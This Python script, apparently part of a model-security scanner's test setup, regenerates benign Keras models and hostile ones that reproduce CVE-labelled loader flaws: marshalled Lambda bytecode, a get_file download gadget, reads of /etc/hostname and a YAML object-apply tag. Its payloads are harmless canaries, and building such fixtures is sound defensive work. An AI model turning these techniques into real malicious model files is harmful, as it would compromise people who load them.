# ruff: noqa: INP001 (a script, not a package)
"""Makes the small model files of this folder again; `python examples/make_models.py [FOLDER]`.

Seeds, times and identifiers are fixed, so that making them twice with the same releases of
Python, Keras and h5py gives the same bytes. What the hostile ones carry is harmless even
if it is run: at worst it leaves an empty file `secure_serial_canary` in the folder for
temporary files, or asks for an address that cannot exist.
"""

from __future__ import annotations

import base64
import json
import marshal
import os
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Any

os.environ.setdefault("KERAS_BACKEND", "jax")

EPOCH = (2026, 1, 1, 0, 0, 0)
SAVED = "2026-01-01@00:00:00"
SEED = 7
# It imports what it needs, so that it would run wherever it is unmarshalled.
PAYLOAD = (
    "lambda x: (open(__import__('os').path.join("
    "__import__('tempfile').gettempdir(), 'secure_serial_canary'), 'w').close(), x)[1]"
)
NOWHERE = "https://canary.invalid/model.bin"  # RFC 2606: never resolves


def _keras() -> Any:
    import keras

    keras.backend.clear_session()
    keras.utils.set_random_seed(SEED)
    return keras


def _renumber(node: object, seen: dict[object, int]) -> object:
    """Share ids are addresses in memory; count them instead."""
    if isinstance(node, dict):
        return {
            key: seen.setdefault(value, len(seen) + 1)
            if key == "shared_object_id"
            else _renumber(value, seen)
            for key, value in node.items()
        }
    return [_renumber(value, seen) for value in node] if isinstance(node, list) else node


def _write_archive(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, EPOCH), data)


def _save_archive(model: Any, path: Path) -> dict[str, bytes]:
    """Saves as Keras does, then writes the same members without times and addresses."""
    with tempfile.TemporaryDirectory() as folder:
        made = Path(folder) / "model.keras"
        model.save(made)
        with zipfile.ZipFile(made) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
    metadata = json.loads(members["metadata.json"])
    members["metadata.json"] = json.dumps({**metadata, "date_saved": SAVED}).encode()
    config = _renumber(json.loads(members["config.json"]), {})
    members["config.json"] = json.dumps(config).encode()
    _write_archive(path, members)
    return members


def mlp(path: Path) -> None:
    """A compiled multilayer perceptron."""
    keras = _keras()
    layers = keras.layers
    model = keras.Sequential(
        [
            keras.Input((8,), name="features"),
            layers.Dense(16, activation="relu", name="hidden"),
            layers.Dropout(0.2, name="dropout"),
            layers.Dense(3, activation="softmax", name="classes"),
        ],
        name="mlp",
    )
    model.compile("adam", "sparse_categorical_crossentropy", metrics=["accuracy"])
    _save_archive(model, path)


def text_classifier(path: Path) -> None:
    """Token numbers in, one probability out."""
    keras = _keras()
    layers = keras.layers
    tokens = keras.Input((20,), dtype="int32", name="tokens")
    x = layers.Embedding(200, 8, mask_zero=True, name="embedding")(tokens)
    x = layers.LSTM(8, name="lstm")(x)
    score = layers.Dense(1, activation="sigmoid", name="score")(x)
    _save_archive(keras.Model(tokens, score, name="text_classifier"), path)


def cnn(path: Path) -> None:
    """A small convolutional network in the older format."""
    keras = _keras()
    layers = keras.layers
    model = keras.Sequential(
        [
            keras.Input((16, 16, 1), name="image"),
            layers.Conv2D(4, 3, use_bias=False, name="conv"),
            layers.BatchNormalization(name="norm"),
            layers.ReLU(name="relu"),
            layers.GlobalAveragePooling2D(name="pool"),
            layers.Dense(10, name="digits"),
        ],
        name="cnn",
    )
    model.save(path)


def legacy_keras2(path: Path) -> None:
    """What `to_json` of Keras 2 wrote."""
    shared = {"trainable": True, "dtype": "float32"}
    first = {"batch_input_shape": [None, 4], "units": 8, "activation": "relu", "use_bias": True}
    first["kernel_initializer"] = {
        "class_name": "VarianceScaling",
        "config": {"scale": 1.0, "mode": "fan_avg", "distribution": "uniform", "seed": None},
    }
    layers = [
        {"class_name": "Dense", "config": {"name": "dense_1", **shared, **first}},
        {"class_name": "Dropout", "config": {"name": "dropout_1", "trainable": True, "rate": 0.5}},
        {"class_name": "Dense", "config": {"name": "dense_2", **shared, "units": 1}},
    ]
    config = {"name": "sequential_1", "layers": layers}
    model = {"class_name": "Sequential", "config": config, "keras_version": "2.2.4"}
    path.write_text(json.dumps({**model, "backend": "tensorflow"}, indent=1) + "\n")


def _node(module: str, class_name: str, config: object, registered: str | None = None) -> object:
    node = {"module": module, "class_name": class_name, "config": config}
    return {**node, "registered_name": registered}


def _hostile(path: Path, victim: object, weights: bytes | None = None) -> None:
    """An archive of a model that has `victim` between its input and its output."""
    shape = {"batch_shape": [None, 4], "dtype": "float32", "name": "in"}
    output = _node("keras.layers", "Dense", {"name": "out", "units": 1})
    layers = [_node("keras.layers", "InputLayer", shape), victim, output]
    config = _node("keras", "Sequential", {"name": "model", "layers": layers})
    metadata = {"keras_version": "3.15.1", "date_saved": SAVED}
    members = {
        "metadata.json": json.dumps(metadata).encode(),
        "config.json": json.dumps(config).encode(),
        "model.weights.h5": _weights() if weights is None else weights,
    }
    _write_archive(path, members)


def _weights(*, outside: str = "") -> bytes:
    """An HDF5 file; its one dataset is `outside` the file, if so asked (CVE-2026-1669)."""
    import h5py

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "weights.h5"
        with h5py.File(path, "w") as file:
            variables = file.create_group("layers/dense/vars")
            if outside:
                variables.create_dataset("0", (4, 1), "f4", external=[(outside, 0, 16)])
        return path.read_bytes()


def lambda_layer(path: Path) -> None:
    """CVE-2024-3660: Python bytecode in the config."""
    # The name of the file is part of the code: give it one of our own.
    function = eval(compile(PAYLOAD, "<canary>", "eval"))  # noqa: S307 (our own text)
    code = base64.b64encode(marshal.dumps(function.__code__)).decode()
    body = {"code": code, "defaults": None, "closure": None}
    config = {"name": "lambda", "function": {"class_name": "__lambda__", "config": body}}
    _hostile(path, _node("keras.layers", "Lambda", {**config, "arguments": {}}))


def get_file_gadget(path: Path) -> None:
    """CVE-2025-8747: a function of Keras itself that downloads."""
    function = _node("keras.utils", "function", "get_file", "get_file")
    config = {"name": "lambda", "function": function}
    arguments = {"fname": "secure_serial_canary", "origin": NOWHERE}
    _hostile(path, _node("keras.layers", "Lambda", {**config, "arguments": arguments}))


def vocabulary_path(path: Path) -> None:
    """CVE-2025-12058: a vocabulary that is the path of a file."""
    config = {"name": "lookup", "vocabulary": "/etc/hostname"}
    _hostile(path, _node("keras.layers", "StringLookup", config))


def external_weights(path: Path) -> None:
    """CVE-2026-1669: weights that are the bytes of another file."""
    relu = _node("keras.layers", "ReLU", {"name": "relu"})
    _hostile(path, relu, _weights(outside="/etc/hostname"))


def stranger_custom_layer(path: Path) -> None:
    """Not hostile in itself: a class that nobody has allowed."""
    config = {"name": "attention", "heads": 4}
    _hostile(path, _node("acme.layers", "SpecialAttention", config, "acme>SpecialAttention"))


def yaml_object(path: Path) -> None:
    """CVE-2021-37678: a YAML tag that calls a function while the text is being read."""
    path.write_text(
        "class_name: Sequential\nkeras_version: 2.4.0\nconfig:\n  name: model\n  layers:\n"
        "  - class_name: Dense\n    config:\n      name: dense\n"
        "      units: !!python/object/apply:os.getpid []\n"
    )


MAKERS = {
    "benign/mlp.keras": mlp,
    "benign/text_classifier.keras": text_classifier,
    "benign/cnn.h5": cnn,
    "benign/legacy_keras2.json": legacy_keras2,
    "hostile/lambda_layer.keras": lambda_layer,
    "hostile/get_file_gadget.keras": get_file_gadget,
    "hostile/vocabulary_path.keras": vocabulary_path,
    "hostile/external_weights.keras": external_weights,
    "hostile/yaml_object.yaml": yaml_object,
    "hostile/stranger_custom_layer.keras": stranger_custom_layer,
}


def make(folder: Path) -> None:
    """Writes every example below `folder`."""
    for name, maker in MAKERS.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        maker(path)


if __name__ == "__main__":
    make(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "models")
